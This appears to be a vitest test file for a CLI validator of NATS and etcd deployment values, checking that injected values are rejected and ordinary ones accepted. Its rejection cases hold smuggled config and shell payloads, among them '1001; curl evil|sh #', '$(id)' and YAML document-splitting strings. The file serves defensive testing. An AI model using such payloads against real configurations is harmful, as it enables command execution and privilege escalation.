import { describe, expect, test } from 'vitest';
import type { Json } from '../../lib/json/index.ts';
import { run } from '../cli/run.ts';

async function platform(values: Json): Promise<{ readonly code: number; readonly err: string }> {
  return await run(['platform', '-f', 'in.json'], { files: { 'in.json': JSON.stringify(values) } });
}

const jetstream = (store: Json): Json => ({ nats: { config: { jetstream: { fileStore: store } } } });
const merge = (value: Json): Json => ({ nats: { config: { merge: { x: value } } } });
const etcd = (value: object): Json => ({ etcd: { enabled: true, ...value } });

describe('rejects values that would become something else where they are written', () => {
  test.each<[string, Json]>([
    ['nats.config.jetstream.fileStore.pvc.size', jetstream({ pvc: { size: '10Gi, store_dir: /evil' } })],
    ['nats.config.jetstream.fileStore.pvc.size', jetstream({ pvc: { size: '10Gi\n---\napiVersion: v1' } })],
    ['nats.config.jetstream.fileStore.maxSize', jetstream({ maxSize: '1Gi }' })],
    ['nats.config.merge.x', merge('<< x, admin: true >>')],
    ['nats.config.merge.x', merge('<< "a" >>')],
    ['nats.config.merge.x', merge('a\u2028b')],
    ['nats.config.merge.x', merge('a\u001bb')],
    ['nats.config.merge.x[0].y', merge([{ y: 'a\u0000b' }])],
    ['nats.config.merge.x.a$include', merge({ a$include: 'x; admin: true' })],
    ['etcd.containerSecurityContext.runAsUser', etcd({ containerSecurityContext: { runAsUser: '1001; curl evil|sh #' } })],
    ['etcd.podSecurityContext.fsGroup', etcd({ podSecurityContext: { fsGroup: '$(id)' } })],
    ['etcd.clusterDomain', etcd({ clusterDomain: 'x; curl evil' })],
  ])('%s', async (path, values) => {
    const { code, err } = await platform(values);
    expect(code).toBe(1);
    expect(err).toContain(`${path}: must `);
  });
});

test.each<[string, Json]>([
  ['variables, sizes and numbers', merge({ a: '<< $TOKEN >>', b: '<< 8MB >>', c: '<< 10 >>', d: '<< 1.5 >>' })],
  ['text of several lines', merge('a\n\tb')],
  ['sizes', jetstream({ pvc: { size: '500Mi' }, maxSize: '1.5Gi' })],
  ['users and domains', etcd({ clusterDomain: 'corp.example', containerSecurityContext: { runAsUser: 1001 } })],
])('takes %s', async (_, values) => {
  const { code, err } = await platform(values);
  expect(err).not.toMatch(/: must (?:be|hold|have)/);
  expect(code).toBe(0);
});
